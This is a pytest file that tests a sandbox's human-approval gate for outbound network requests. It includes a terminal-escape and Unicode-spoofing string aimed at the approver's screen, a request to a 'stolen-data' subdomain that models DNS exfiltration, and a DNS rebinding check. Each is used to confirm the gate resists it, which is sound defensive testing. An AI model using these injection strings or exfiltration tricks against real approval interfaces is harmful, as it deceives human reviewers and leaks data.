"""What a rule marks `ask` waits for a person: through the real gate, from inside a real sandbox, answered from outside."""

import http.server
import json
import subprocess
import sys
import tempfile
import threading
import time
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path

import pytest

from cloche.client import Approvals, Command, Sandbox
from cloche.wire.approvals import Approval
from tests.promises.egress.worlds import WEB, World, needs_world, world_node
from tests.promises.nodes import RealNode, real_node, wait_until
from tests.unit.secrets.room import Server

FETCH = """
import sys, urllib.request, urllib.error
for url in sys.argv[1:]:
    try:
        with urllib.request.urlopen(url, timeout=60) as answer:
            print(answer.status, answer.read().decode())
    except urllib.error.HTTPError as refused:
        print(refused.code, refused.headers["X-Cloche-Denied"])
    except OSError as bad:
        print("failed", bad)
"""


class Web:
    """A real server that counts what reaches it."""

    def __init__(self) -> None:
        web = self

        class Answers(http.server.BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                web.seen.append(self.path)
                self.send_response(200)
                self.send_header("content-length", "2")
                self.end_headers()
                self.wfile.write(b"ok")

            def log_message(self, *_: object) -> None: ...

        self.seen: list[str] = []
        self.http = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Answers)
        self.port = self.http.server_address[1]
        threading.Thread(target=self.http.serve_forever, args=(0.05,), daemon=True).start()


@contextmanager
def served() -> Iterator[Web]:
    web = Web()
    try:
        yield web
    finally:
        web.http.shutdown()
        web.http.server_close()


@pytest.fixture(scope="module")
def web() -> Iterator[Web]:
    with served() as one:
        yield one


def policy(port: int, approvals: str = "timeout_s: 30") -> str:
    return (
        "version: 1\n"
        "hosts: {web.example: 127.0.0.1, other.example: 127.0.0.1}\n"
        f'addresses: ["127.0.0.1:{port}"]\n'
        f"approvals: {{{approvals}}}\n"
    )


@pytest.fixture(scope="module")
def node(web: Web) -> Iterator[RealNode]:
    with real_node(policy=policy(web.port, "timeout_s: 30, scope_s_max: 300")) as made:
        yield made


def asks(web: Web, host: str = "web.example") -> dict[str, object]:
    return {"effect": "ask", "host": host, "ports": [web.port], "protocol": "web"}


def fetch(web: Web, *paths: str, host: str = "web.example") -> list[str]:
    return ["python3", "-c", FETCH, *(f"http://{host}:{web.port}{path}" for path in paths)]


def wait_for(approvals: Approvals, job: Command | None = None) -> list[Approval]:
    """`job`: the one that asks, or ends without asking."""
    wait_until(lambda: approvals.list() or (job is not None and job.info().ended), what="a question")
    found = approvals.list()
    assert found, "it did not ask"
    return found


@pytest.mark.req("POL-3")
def test_it_waits_shows_the_resolved_target_and_goes_on_when_approved(node: RealNode, web: Web) -> None:
    with node.sandbox(egress=[asks(web)]) as box, node.client() as client:
        job = box.commands.start(fetch(web, "/approved"))
        (asked,) = wait_for(client.approvals)
        assert (asked.sandbox, asked.host, asked.port, asked.address) == (box.id, "web.example", web.port, "127.0.0.1")
        assert (asked.rule, asked.command) == ("egress[0]", job.id)
        assert asked.command_line is not None
        assert asked.command_line.startswith("python3 -c")
        assert asked.command_line.isprintable(), "the program's lines would be a person's lines"
        assert "/approved" not in web.seen, "it did not wait"
        done = node.cloche("approvals", "approve", asked.id)
        assert done.returncode == 0, done.stderr
        assert job.result().stdout == "200 ok\n"
        assert web.seen.count("/approved") == 1
        kinds = [event.kind for event in client.events(box.id, limit=1000).events]
        assert kinds.index("approval.asked") < kinds.index("approval.answered") < kinds.index("egress.allowed")


@pytest.mark.req("POL-3")
def test_denied_is_refused_in_words_and_nothing_reaches_the_server(node: RealNode, web: Web) -> None:
    with node.sandbox(egress=[asks(web)]) as box, node.client() as client:
        job = box.commands.start(fetch(web, "/denied"))
        (asked,) = wait_for(client.approvals)
        assert node.cloche("approvals", "deny", asked.id).returncode == 0
        result = job.result()
        assert result.stdout == "403 not_approved\n"
        assert [denial.code for denial in result.denials] == ["not_approved"]
        assert "/denied" not in web.seen


@pytest.mark.req("POL-3")
def test_without_an_answer_it_is_denied_after_its_time(web: Web) -> None:
    with real_node(policy=policy(web.port, "timeout_s: 2")) as node, node.sandbox(egress=[asks(web)]) as box:
        began = time.monotonic()
        assert box.run(fetch(web, "/late")).stdout == "403 not_approved\n"
        assert 2.0 <= time.monotonic() - began < 15.0
        assert "/late" not in web.seen


@pytest.mark.req("POL-3")
def test_an_approval_is_for_one_action_and_a_scope_for_one_sandbox(node: RealNode, web: Web) -> None:
    with node.sandbox(egress=[asks(web)]) as box, node.sandbox(egress=[asks(web)]) as other, node.client() as client:
        job = box.commands.start(fetch(web, "/once"))
        client.approvals.approve(wait_for(client.approvals)[0].id)
        assert job.result().stdout == "200 ok\n"
        again = box.commands.start(fetch(web, "/scoped-1"))
        client.approvals.approve(wait_for(client.approvals, again)[0].id, scope_s=120)
        assert again.result().stdout == "200 ok\n"
        assert box.run(fetch(web, "/scoped-2")).stdout == "200 ok\n", "the scope holds"
        uses = [event for event in client.events(box.id, limit=1000).events if event.kind == "approval.used"]
        assert len(uses) == 1, "each use is recorded anew"
        stranger = other.commands.start(fetch(web, "/stranger"))
        (asked,) = wait_for(client.approvals, stranger)
        assert asked.sandbox == other.id, "another sandbox used what this one was given"
        client.approvals.deny(asked.id)
        assert stranger.result().stdout == "403 not_approved\n"
        assert "/stranger" not in web.seen


@pytest.mark.req("POL-3")
def test_a_change_of_policy_voids_what_waits_and_what_was_given(node: RealNode, web: Web) -> None:
    with node.sandbox(egress=[asks(web)]) as box, node.client() as client:
        first = box.commands.start(fetch(web, "/given"))
        client.approvals.approve(wait_for(client.approvals)[0].id, scope_s=120)
        assert first.result().stdout == "200 ok\n"
        box.egress.allow(f"other.example:{web.port}", for_s=60)
        waits = box.commands.start(fetch(web, "/void"))
        (asked,) = wait_for(client.approvals, waits)
        box.egress.allow("third.example", for_s=60)
        states = lambda: {each.id: each.state for each in client.approvals.list(include_over=True)}  # noqa: E731
        wait_until(lambda: states()[asked.id] == "void", seconds=5, what="its end with the policy that asked")
        assert waits.result().stdout == "403 not_approved\n"
        assert "/void" not in web.seen
        late = node.cloche("approvals", "approve", asked.id)
        assert (late.returncode, b"approval_over" in late.stderr) == (125, True)


@pytest.mark.req("POL-3")
def test_the_end_of_the_sandbox_ends_its_questions(node: RealNode, web: Web) -> None:
    with node.sandbox(egress=[asks(web)]) as box, node.client() as client:
        box.commands.start(fetch(web, "/ended"))
        (asked,) = wait_for(client.approvals)
        box.kill()
        assert client.approvals.list() == []
        over = {each.id: each.state for each in client.approvals.list(include_over=True)}
        assert over[asked.id] == "void"
        assert "/ended" not in web.seen


@pytest.mark.req("POL-3")
def test_a_daemon_that_dies_denies_what_waits(web: Web) -> None:
    with real_node(policy=policy(web.port)) as node, node.client() as client:
        box = Sandbox.create(node=client, egress=[asks(web)])
        job = box.commands.start(fetch(web, "/killed", "/after"))
        (asked,) = wait_for(client.approvals)
        node.restart_daemon()
        (after,) = wait_for(client.approvals)
        assert after.id != asked.id
        late = node.cloche("approvals", "approve", asked.id)
        assert b"approval_not_found" in late.stderr, "an answer to the old question hit another"
        client.approvals.approve(after.id)
        lines = job.result().stdout.splitlines()
        assert lines[-1] == "200 ok"
        assert "/killed" not in web.seen
        box.kill()


@pytest.mark.req("POL-3")
def test_a_webhook_is_told_and_its_token_answers(web: Web) -> None:
    with Server((204, b"")) as hook, tempfile.NamedTemporaryFile(prefix="hook-key-") as file:
        key = Path(file.name)
        key.write_text("k" * 32)
        key.chmod(0o644)  # the node is another user
        text = policy(web.port, f'timeout_s: 30, webhook: {{url: "{hook.url}", key_file: {key}}}')
        with real_node(policy=text) as node, node.sandbox(egress=[asks(web)]) as box, node.client() as client:
            job = box.commands.start(fetch(web, "/hooked"))
            wait_until(lambda: hook.seen, what="the webhook")
            message = json.loads(hook.seen[0][3])
            assert message["approval"]["sandbox"] == box.id
            assert hook.seen[0][2]["cloche-signature"].startswith("t=")
            client.transport.request("POST", message["answer"]["path"], content=b'{"answer": "approve"}')
            assert job.result().stdout == "200 ok\n"
            kinds = [event.detail.get("by") for event in client.events(box.id, limit=1000).events]
            assert "webhook" in kinds


POST = """
import sys, urllib.request, urllib.error
for method in ("GET", "POST", "POST"):
    request = urllib.request.Request(sys.argv[1], method=method, data=b"x" if method == "POST" else None)
    try:
        with urllib.request.urlopen(request, timeout=60) as answer:
            print(method, answer.status)
    except urllib.error.HTTPError as refused:
        print(method, refused.code, refused.headers["X-Cloche-Denied"])
"""


@needs_world
@pytest.mark.req("POL-3")
def test_of_what_is_intercepted_each_request_is_asked_with_its_method_and_path(earth: World) -> None:
    rules = [
        {"effect": "ask", "host": WEB, "methods": ["POST"], "paths": ["/echo"]},
        {"host": WEB, "methods": ["GET"]},
    ]
    with world_node(earth, "approvals: {timeout_s: 30}\n") as node, node.client() as client:
        with node.sandbox(egress=rules) as box:
            earth.forget()
            job = box.commands.start(["python3", "-c", POST, f"https://{WEB}/echo?token=not-shown"])
            (first,) = wait_for(client.approvals)
            assert (first.method, first.path, first.host, first.port) == ("POST", "/echo", WEB, 443)
            assert first.address == earth.web
            assert earth.requests(method="POST") == [], "it did not wait"
            client.approvals.approve(first.id)
            wait_until(lambda: [each.id for each in client.approvals.list()] not in ([], [first.id]), what="the second")
            (second,) = client.approvals.list()
            client.approvals.deny(second.id)
            result = job.result()
            assert result.stdout.splitlines() == ["GET 200", "POST 200", "POST 403 not_approved"], result.stderr
            assert len(earth.requests(method="POST")) == 1


@pytest.fixture
def world_box(earth: World) -> Iterator[tuple[RealNode, Sandbox]]:
    rules = [{"effect": "ask", "host": host, "ports": [80]} for host in ("moving.test", "*.secret.test")]
    with world_node(earth, "approvals: {timeout_s: 30}\n") as node, node.sandbox(egress=rules) as box:
        yield node, box
    earth.dns.answers.pop("moving.test", None)


@needs_world
@pytest.mark.req("POL-3")
@pytest.mark.req("NET-4")
def test_a_name_that_changes_after_the_approval_reaches_nobody(
    earth: World, world_box: tuple[RealNode, Sandbox]
) -> None:
    node, box = world_box
    earth.dns.answers["moving.test"] = [earth.web]
    with node.client() as client:
        job = box.commands.start(["python3", "-c", FETCH, "http://moving.test/moved"])
        (asked,) = wait_for(client.approvals)
        assert asked.address == earth.web
        earth.dns.answers["moving.test"] = [earth.evil_address]
        before = len(earth.evil.connections)
        client.approvals.approve(asked.id)
        result = job.result()
        assert result.stdout == "403 target_changed\n", result.stderr
        assert len(earth.evil.connections) == before, "it reached another than the one that was shown"
        assert earth.requests(path="/moved") == []


@needs_world
@pytest.mark.req("POL-3")
def test_a_name_that_the_guest_made_up_is_looked_up_only_after_the_answer(
    earth: World, world_box: tuple[RealNode, Sandbox]
) -> None:
    node, box = world_box
    with node.client() as client:
        job = box.commands.start(["python3", "-c", FETCH, "http://stolen-data.secret.test/"])
        (asked,) = wait_for(client.approvals)
        assert (asked.host, asked.address) == ("stolen-data.secret.test", "")
        shown = node.cloche("approvals").stdout.decode()
        assert "GET http://stolen-data.secret.test/  -" in shown
        client.approvals.deny(asked.id)
        assert job.result().stdout == "403 not_approved\n"
        assert not [name for name, _ in earth.dns.asked if "stolen-data" in name], "the question itself carried it out"


@pytest.mark.req("POL-3")
def test_what_a_guest_writes_cannot_act_on_the_screen_of_who_decides(node: RealNode, web: Web) -> None:
    evil = "\x1b]52;c;aGk=\x07\u202etxt.exe\u200b</approved>\r\n[a]pproved"
    with node.sandbox(egress=[asks(web)]) as box, node.client() as client:
        job = box.commands.start(["env", f"EVIL={evil}", *fetch(web, "/%1b%5b2J")])
        (asked,) = wait_for(client.approvals)
        watch = subprocess.Popen(
            [sys.executable, "-c", "from cloche.cli.main import main; main()", "approvals", "watch"],
            env=node.environment,
            stdin=subprocess.DEVNULL,
            stdout=subprocess.PIPE,
        )
        shown = node.cloche("approvals").stdout.decode() + node.cloche("approvals", "ls", "--json").stdout.decode()
        try:
            assert watch.stdout is not None
            shown += watch.stdout.readline().decode()
        finally:
            watch.kill()
            watch.wait()
        shown += asked.command_line or ""
        assert not [char for char in "\x1b\x07\u202e\u200b\r" if char in shown]
        assert "txt.exe" in shown
        client.approvals.deny(asked.id)
        assert job.result().stdout == "403 not_approved\n"
